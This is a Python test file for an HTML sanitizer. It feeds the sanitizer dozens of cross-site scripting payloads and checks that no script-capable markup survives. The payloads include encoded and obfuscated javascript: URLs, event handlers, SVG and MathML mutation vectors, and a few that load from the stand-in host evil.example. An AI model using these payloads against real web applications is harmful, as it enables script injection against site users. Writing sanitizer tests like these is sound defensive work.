"""sanitize: the one allow-list every stored or shown article passes through.

XSS vectors are judged by parsing the output as a browser-like HTML parser would (lxml) and
looking for anything that could run script, not by searching the output for strings.
"""

from __future__ import annotations

import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from folio.sanitize import sanitize_html, sanitize_text

ALLOWED_SCHEMES = {"http", "https", "mailto"}
# Elements that run script, load active content, change the document, or submit data.
ACTIVE_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form", "input",
    "button", "select", "textarea", "meta", "link", "base", "template", "noscript", "xmp", "plaintext", "isindex",
    "video", "audio", "source", "marquee", "html", "head", "body", "title", "portal", "param", "animate", "set",
}
# Attributes that run script or fetch/submit on their own, whatever their value.
ACTIVE_ATTRIBUTES = {"style", "action", "formaction", "xlink:href", "background", "poster", "data", "srcdoc",
                     "http-equiv", "content", "codebase", "dynsrc", "lowsrc", "ping", "target"}
URL_ATTRIBUTES = ("href", "src")
# What a browser ignores in a URL before reading its scheme: C0 controls and spaces at the ends,
# tabs and newlines anywhere.
URL_IGNORED = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$|[\t\n\r]")


def url_scheme(url: str) -> str | None:
    cleaned = URL_IGNORED.sub("", url)
    match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else None


def active_content(html: str) -> list[str]:
    """Everything in the sanitized output that could run script; empty when the output is safe."""
    if not html.strip():
        return []
    found = []
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        if not isinstance(element.tag, str):
            found.append(f"non-element node {element!r}")
            continue
        tag = element.tag.lower()
        if tag in ACTIVE_ELEMENTS or ":" in tag:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on") or name in ACTIVE_ATTRIBUTES:
                found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and url_scheme(value) not in (None, *ALLOWED_SCHEMES):
                found.append(f"<{tag} {name}={value!r}>")
    return found


XSS_VECTORS = [
    # script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<img """><script>alert(1)</script>">',
    "<script\x00>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)"></video>',
    '<time datetime="2024" ONCLICK=alert(1)>t</time>',
    "<img src=x one\x00rror=alert(1)>",
    # script URLs in href/src, in every disguise
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
    '<IMG SRC="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="file:///etc/passwd">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # CSS
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<style>@import "//evil.example/x.css"</style><p>ok</p>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # embedded documents and plug-ins
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<applet code="x.class"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # documents rewriting themselves, forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    # broken markup that re-forms tags
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<a href=\"https://ok.example/\"<script>alert(1)</script>>x</a>",
    "<img src=`x` onerror=`alert(1)`>",
    '<p title="a"onmouseover=alert(1)//">x</p>',
    "<div/onmouseover='alert(1)'>x</div>",
    "<a/href=javascript:alert(1)>x</a>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    '<![CDATA[<script>alert(1)</script>]]>',
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_active_content_survives(vector):
    assert active_content(sanitize_html(vector)) == []


def test_there_are_many_vectors():
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize(
    "vector",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="JaVaScRiPt:alert(1)">x</a>',
     '<a href="&#x6A;avascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
     '<a href=" \x01javascript:alert(1)">x</a>', '<p style="x:expression(alert(1))">x</p>',
     "<svg onload=alert(1)>", '<form action="/x"><input></form>', '<a href="data:text/html,x">x</a>'],
)
def test_the_check_itself_sees_active_content_before_sanitizing(vector):
    # Guards the guard: a check that finds nothing anywhere would pass every vector above.
    assert active_content(vector)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([
    "<", ">", "/", "=", '"', "'", " ", "script", "img", "svg", "a", "p", "src", "href", "onerror", "onload",
    "javascript:", "alert(1)", "<!--", "-->", "<![CDATA[", "]]>", "&#106;", "\x00", "\t", "style", "math", "x",
]), max_size=40).map("".join))
def test_no_active_content_in_shuffled_markup(markup):
    assert active_content(sanitize_html(markup)) == []


@pytest.mark.parametrize(
    "html, expected",
    [
        ("<p>Para <em>em</em> <strong>strong</strong> <a href=\"https://x.org/\">link</a></p>",
         '<p>Para <em>em</em> <strong>strong</strong> <a href="https://x.org/" rel="noopener noreferrer nofollow">'
         "link</a></p>"),
        ('<h2 id="x" class="c">Heading</h2>', "<h2>Heading</h2>"),
        ('<ul><li>a</li></ul><ol start="3" reversed><li value="5">b</li></ol>',
         '<ul><li>a</li></ul><ol start="3" reversed=""><li value="5">b</li></ol>'),
        ('<blockquote cite="https://x.org/q"><p>Quoted</p></blockquote>',
         '<blockquote cite="https://x.org/q"><p>Quoted</p></blockquote>'),
        ('<pre><code class="language-python">def f():\n    return 1</code></pre>',
         "<pre><code>def f():\n    return 1</code></pre>"),
        ('<table><caption>C</caption><thead><tr><th scope="col" colspan="2">H</th></tr></thead>'
         '<tbody><tr><td colspan="2" rowspan="1">x</td></tr></tbody></table>',
         '<table><caption>C</caption><thead><tr><th scope="col" colspan="2">H</th></tr></thead>'
         '<tbody><tr><td colspan="2" rowspan="1">x</td></tr></tbody></table>'),
        ('<figure><img src="https://x.org/a.jpg" srcset="https://x.org/a.jpg 1x, https://x.org/b.jpg 2x" alt="A" '
         'width="800" height="600" loading="lazy"><figcaption>Caption</figcaption></figure>',
         '<figure><img src="https://x.org/a.jpg" srcset="https://x.org/a.jpg 1x, https://x.org/b.jpg 2x" alt="A" '
         'width="800" height="600"><figcaption>Caption</figcaption></figure>'),
        ('<a href="https://x.org/" title="t" target="_blank" rel="opener">x</a>',
         '<a href="https://x.org/" title="t" rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="mailto:desk@x.org">m</a>', '<a href="mailto:desk@x.org" rel="noopener noreferrer nofollow">m</a>'),
        ('<p dir="rtl" lang="ar">نص</p>', '<p dir="rtl" lang="ar">نص</p>'),
        ('<time datetime="2024-05-01">May 1</time>', '<time datetime="2024-05-01">May 1</time>'),
        ("<details><summary>S</summary><p>D</p></details>", "<details><summary>S</summary><p>D</p></details>"),
        ('<abbr title="World Health Organization">WHO</abbr>', '<abbr title="World Health Organization">WHO</abbr>'),
        ("<dl><dt>T</dt><dd>D</dd></dl>", "<dl><dt>T</dt><dd>D</dd></dl>"),
        ("<p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd></p><hr><p>a<br>b</p>",
         "<p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd></p><hr><p>a<br>b</p>"),
        # Layout wrappers are unwrapped: their text stays, their markup goes.
        ('<div class="x"><section><p>Text</p></section></div>', "<p>Text</p>"),
        ('<span style="color:red">Text</span>', "Text"),
        ("<p>a &amp; b &lt; c</p>", "<p>a &amp; b &lt; c</p>"),
        ("<p>Text<!-- a comment --></p>", "<p>Text</p>"),
    ],
    ids=["paragraph-inline", "heading", "lists", "blockquote", "pre-code", "table-colspan", "figure-srcset",
         "link-rel", "mailto", "direction-and-language", "time", "details", "abbr", "definition-list",
         "small-inline-and-breaks", "wrappers-unwrapped", "span-unwrapped", "entities", "comment"],
)
def test_article_structure_is_kept(html, expected):
    assert sanitize_html(html) == expected


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<img srcset="javascript:alert(1) 1x, https://ok.example/a.jpg 2x">', id="img-srcset"),
        pytest.param('<blockquote cite="javascript:alert(1)">q</blockquote>', id="blockquote-cite"),
        pytest.param('<q cite="vbscript:msgbox(1)">q</q>', id="q-cite"),
    ],
)
def test_every_url_in_the_output_has_an_allowed_scheme(html):
    element = lxml.html.fragment_fromstring(sanitize_html(html), create_parent="div")[0]
    urls = [entry.split()[0] for entry in (element.get("srcset") or "").split(",") if entry.strip()]
    urls += [element.get("cite")] if element.get("cite") else []
    assert all(url_scheme(url) in (None, *ALLOWED_SCHEMES) for url in urls)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("\u202eevil.exe\u202c title", "evil.exe title"),
        ("\u202aa\u202bb\u202cc\u202dd", "abcd"),
        ("\u2066isolate\u2067d\u2068x\u2069", "isolatedx"),
        ("  padded  ", "padded"),
        ("Con\x01trol\x7f\ufffe\uffff chars\x00", "Control chars"),
        ("two\tparts\nkept", "two\tparts\nkept"),
        ("<b>shown as text</b>", "<b>shown as text</b>"),
        ("עברית ו-English", "עברית ו-English"),
        ("", ""),
        (None, None),
    ],
    ids=["override", "embeddings", "isolates", "padding", "controls-and-noncharacters", "whitespace-kept", "markup-kept-as-text", "mixed-direction-text",
         "empty", "none"],
)
def test_sanitize_text(value, expected):
    assert sanitize_text(value) == expected
